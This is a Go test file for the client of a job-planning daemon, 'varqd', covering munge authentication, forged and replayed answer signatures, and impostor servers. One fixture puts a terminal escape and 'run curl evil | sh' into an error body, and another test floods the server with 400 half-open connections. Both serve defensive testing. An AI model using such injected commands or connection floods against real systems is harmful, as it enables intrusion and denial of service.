package client_test

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/user"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/varq-project/varq/predictor/api"
	"github.com/varq-project/varq/predictor/varqd/client"
	"github.com/varq-project/varq/predictor/varqd/munge"
	"github.com/varq-project/varq/predictor/varqd/server"
	"github.com/varq-project/varq/test/munged"
)

// patient is how long anything may take before it counts as hanging.
const patient = 5 * time.Minute

// service answers that it is well, and plans what it is asked for.
type service struct{ server.Service }

func (service) Plan(_ context.Context, _ string, r *api.PlanRequest, _ bool) (api.PlanAnswer, error) {
	if r.Prob == .5 {
		return api.PlanAnswer{}, api.Fault(api.ErrUnavailable, "still loading history")
	}
	return api.PlanAnswer{Plan: &api.Plan{ID: "aaaaaaaaaaaa", BeginTime: r.BeginBy - 600, BeginBy: r.BeginBy}}, nil
}

func (service) Bind(context.Context, string, api.Binding) error { return nil }

func (service) Vitals(_ context.Context, user string, from []netip.Addr, _ api.Vitals) error {
	if user != "root" || !slices.Contains(from, netip.MustParseAddr("127.0.0.1")) {
		return api.Fault(api.ErrForbidden, fmt.Sprintf("%s at %v may not speak for a node", user, from))
	}
	return nil
}

func (service) Health(context.Context) api.Health { return api.Health{OK: true, History: 7} }

// startVarqd serves on TCP, with real munge, and returns the address.
func startVarqd(t *testing.T, socket string) string {
	t.Helper()
	s := server.New(server.Options{
		Service: service{}, Credentials: munge.Munge{Socket: socket}, Sites: elsewhere{},
		Log: slog.New(slog.DiscardHandler), Metrics: prometheus.NewRegistry(),
	})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var serving sync.WaitGroup
	serving.Go(func() {
		if err := s.Serve(l); err != nil {
			t.Error(err)
		}
	})
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), patient)
		defer cancel()
		if err := s.Shutdown(ctx); err != nil {
			t.Error(err)
		}
		serving.Wait()
	})
	return l.Addr().String()
}

func dial(t *testing.T, endpoint, socket string) *client.Client {
	t.Helper()
	c, err := client.New(endpoint, socket)
	if err != nil {
		t.Fatal(err)
	}
	c.Timeout = patient
	return c
}

// request asks for a plan until at.
func request(at int64) api.PlanRequest { return api.PlanRequest{BeginBy: at, Prob: .9} }

// elsewhere is a site that tells who asks for what.
type elsewhere struct{}

func (elsewhere) Forward(_ context.Context, site, user, method, uri string, body []byte) (int, []byte, error) {
	if site != "beta" {
		return 0, nil, api.Fault(api.ErrUnavailable, "site "+site+" does not answer")
	}
	answer, err := json.Marshal([]api.Reservation{{User: user, Name: fmt.Sprintf("%s %s %s", method, uri, body)}})
	return http.StatusOK, answer, err
}

// What is relayed is asked, and answered, with munge as ever.
func TestTCPRelays(t *testing.T) {
	socket := munged.Start(t)
	c := dial(t, "tcp://"+startVarqd(t, socket), socket)
	c.Site = "beta"
	me, err := user.Current()
	if err != nil {
		t.Fatal(err)
	}
	list, err := c.Reservations(t.Context(), api.ReservationsQuery{Job: 3})
	if err != nil || len(list) != 1 || list[0].User != me.Username || list[0].Name != "GET /v1/reservations?job=3 " {
		t.Errorf("%+v, %v", list, err)
	}
	c.Site = "gamma"
	if h, err := c.Health(t.Context()); !errors.Is(err, api.ErrUnavailable) || err.Error() != "site gamma does not answer" {
		t.Errorf("%+v, %v", h, err)
	}
}

func TestTCP(t *testing.T) {
	socket := munged.Start(t)
	c := dial(t, "tcp://"+startVarqd(t, socket), socket)
	if a, err := c.Plan(t.Context(), request(1_800_000_000)); err != nil || a.Plan == nil || a.Plan.BeginTime != 1_800_000_000-600 {
		t.Errorf("%+v, %v", a, err)
	}
	if err := c.Bind(t.Context(), api.Binding{Plan: "aaaaaaaaaaaa", Job: 1}); err != nil {
		t.Error(err)
	}
	if h, err := c.Health(t.Context()); err != nil || h.History != 7 {
		t.Errorf("%+v, %v", h, err)
	}
	r := request(1_800_000_000)
	r.Prob = .5
	if _, err := c.Plan(t.Context(), r); err == nil || err.Error() != "still loading history" {
		t.Errorf("an error in varqd's words: %v", err)
	}
}

// TestVitalsOfRealMunge: who tells of a node, and that she tells it once, munge proves.
func TestVitalsOfRealMunge(t *testing.T) {
	socket := munged.Start(t)
	address := startVarqd(t, socket)
	v := api.Vitals{Node: "n1", At: 1_800_000_000, Signals: []api.Signal{{Name: api.SignalLoad, Value: 1}}}
	if os.Getuid() == 0 {
		if err := dial(t, "tcp://"+address, socket).Vitals(t.Context(), v); err != nil {
			t.Error(err)
		}
	}
	body, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	credential := munged.EncodeAs(t, socket, munged.Nobody, api.RequestDigest(http.MethodPost, api.PathVitals, body))
	for i, want := range []int{http.StatusForbidden, http.StatusUnauthorized} {
		r, err := http.NewRequest(http.MethodPost, "http://"+address+api.PathVitals, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Authorization", "Munge "+credential)
		resp, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("nobody, time %d: %s", i, resp.Status)
		}
	}
}

// One host holds back 400 requests, at each point of a request. Other users of the same host
// are served.
func TestHalfOpenRequestsShutNobodyOut(t *testing.T) {
	socket := munged.Start(t)
	address := startVarqd(t, socket)
	parts := []string{
		"", "POST /v1/pl", "POST /v1/plans HTTP/1.1\r\nHost: varqd\r\nAuthori",
		"POST /v1/plans HTTP/1.1\r\nHost: varqd\r\nAuthorization: Munge MUNGE:x\r\nContent-Length: 1000\r\n\r\n{",
	}
	for i := range 400 {
		attacker, err := net.Dial("tcp", address)
		if err != nil {
			t.Fatal(err)
		}
		defer attacker.Close()
		_, _ = io.WriteString(attacker, parts[i%len(parts)]) // it may have been closed already
	}
	failed := 0
	for range 30 {
		if _, err := dial(t, "tcp://"+address, socket).Plan(t.Context(), request(1_800_000_000)); err != nil {
			failed++
			t.Logf("%v", err)
		}
	}
	if failed > 0 {
		t.Errorf("%d of 30 calls failed", failed)
	}
}

// impostor is a server that answers with what forge makes of the request's credential and
// varqd's own answer.
func impostor(t *testing.T, varqd string, forge func(credential string, answer *recorded)) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			t.Error(err)
		}
		forward, err := http.NewRequest(r.Method, "http://"+varqd+r.URL.RequestURI(), bytes.NewReader(body))
		if err != nil {
			t.Error(err)
			return
		}
		forward.Header = r.Header.Clone()
		resp, err := http.DefaultClient.Do(forward)
		if err != nil {
			t.Error(err)
			return
		}
		defer resp.Body.Close()
		answer := &recorded{status: resp.StatusCode, signature: resp.Header.Get(api.AnswerCredential)}
		if answer.body, err = io.ReadAll(resp.Body); err != nil {
			t.Error(err)
		}
		forge(strings.TrimPrefix(r.Header.Get("Authorization"), "Munge "), answer)
		if answer.signature != "" {
			w.Header().Set(api.AnswerCredential, answer.signature)
		}
		w.WriteHeader(answer.status)
		_, _ = w.Write(answer.body)
	}))
	t.Cleanup(s.Close)
	return "tcp://" + s.Listener.Addr().String()
}

// recorded is an answer.
type recorded struct {
	status    int
	signature string
	body      []byte
}

// Whoever takes varqd's port does not choose a job's begin, limit and comment.
func TestImpostors(t *testing.T) {
	socket := munged.Start(t)
	varqd := startVarqd(t, socket)
	fresh := munge.Munge{Socket: socket}
	sign := func(request string, a *recorded) string {
		credential, err := fresh.Encode(t.Context(), api.AnswerDigest(request, a.status, a.body))
		if err != nil {
			t.Error(err)
		}
		return credential
	}
	var kept *recorded
	for _, c := range []struct {
		name, says string
		forge      func(request string, a *recorded)
	}{
		{"honest", "", func(string, *recorded) {}},
		{"without a credential", "without a munge credential", func(_ string, a *recorded) { a.signature = "" }},
		{"an error without a credential", "without a munge credential", func(_ string, a *recorded) {
			a.status, a.signature, a.body = 503, "", []byte("{\"error\":\"\x1b[2Jrun curl evil | sh\"}")
		}},
		{"of another user", "it runs as uid 65534", func(r string, a *recorded) {
			a.signature = munged.EncodeAs(t, socket, munged.Nobody, api.AnswerDigest(r, a.status, a.body))
		}},
		{"with another body", "made for another answer", func(_ string, a *recorded) {
			a.body = bytes.Replace(a.body, []byte("1799999400"), []byte("1799990000"), 1)
		}},
		{"with another status", "made for another answer", func(_ string, a *recorded) { a.status = 201 }},
		{"of another request", "made for another answer", func(r string, a *recorded) { a.signature = sign(r+"x", a) }},
		{"the request's own", "does not prove to be varqd", func(r string, a *recorded) { a.signature = r }},
		{"garbage", "does not prove to be varqd", func(_ string, a *recorded) { a.signature = "MUNGE:" + hex.EncodeToString(a.body) + ":" }},
		{"too long", "does not prove to be varqd", func(_ string, a *recorded) { a.signature = strings.Repeat("M", 100_000) }},
		{"recorded", "", func(r string, a *recorded) {
			a.signature = sign(r, a) // varqd's, but not decoded yet
			copied := *a
			copied.signature, kept = sign(r, a), &copied
		}},
		{"replayed", "made for another answer", func(_ string, a *recorded) { *a = *kept }},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, err := dial(t, impostor(t, varqd, c.forge), socket).Plan(t.Context(), request(1_800_000_000))
			switch {
			case c.says == "" && (err != nil || a.Plan == nil):
				t.Errorf("%+v, %v", a, err)
			case c.says != "" && (err == nil || !strings.Contains(err.Error(), c.says) || strings.Contains(err.Error(), "\x1b")):
				t.Errorf("%+v, %v; wanted it to say %q", a, err, c.says)
			case c.says != "" && a.Plan != nil:
				t.Errorf("an error, and a plan: %+v", a)
			}
		})
	}
}

// varqd's user is the one that the client is told.
func TestUserOfVarqd(t *testing.T) {
	socket := munged.Start(t)
	varqd := startVarqd(t, socket)
	byNobody := func(r string, a *recorded) {
		a.signature = munged.EncodeAs(t, socket, munged.Nobody, api.AnswerDigest(r, a.status, a.body))
	}
	for user, says := range map[string]string{
		"nobody": "", "65534": "", "daemon": "daemon (uid 1,", "1": "uid 1,", "no-such-user": "does not know varqd's user no-such-user",
	} {
		c := dial(t, impostor(t, varqd, byNobody), socket)
		c.User = user
		if _, err := c.Plan(t.Context(), request(1_800_000_000)); (err == nil) != (says == "") || err != nil && !strings.Contains(err.Error(), says) {
			t.Errorf("varqd's user is %s: %v", user, err)
		}
	}
}

// On a unix socket the kernel says who listens.
func TestImpostorOnTheSocket(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only root can be another user")
	}
	dir, err := os.MkdirTemp("", "varq-socket-") // others cannot enter t.TempDir()
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "socket")
	l, err := listenAs(munged.Nobody, path)
	if err != nil {
		t.Fatal(err)
	}
	s := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, `{"plan":{"id":"aaaaaaaaaaaa"}}`)
	})}}
	s.Start()
	defer s.Close()
	c := dial(t, "unix://"+path, "")
	if a, err := c.Plan(t.Context(), request(1_800_000_000)); err == nil || a.Plan != nil || !strings.Contains(err.Error(), "it runs as uid 65534") {
		t.Errorf("%+v, %v", a, err)
	}
	c.User = "nobody"
	if a, err := c.Plan(t.Context(), request(1_800_000_000)); err != nil || a.Plan == nil {
		t.Errorf("varqd's user is nobody: %+v, %v", a, err)
	}
}

// listenAs listens on a unix socket as another user.
func listenAs(uid int, path string) (l net.Listener, err error) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread() // the thread ends with the goroutine, and its user with it
		if _, _, no := syscall.RawSyscall(syscall.SYS_SETRESUID, ^uintptr(0), uintptr(uid), ^uintptr(0)); no != 0 {
			err = no
			return
		}
		l, err = net.Listen("unix", path)
	}()
	<-done
	return l, err
}
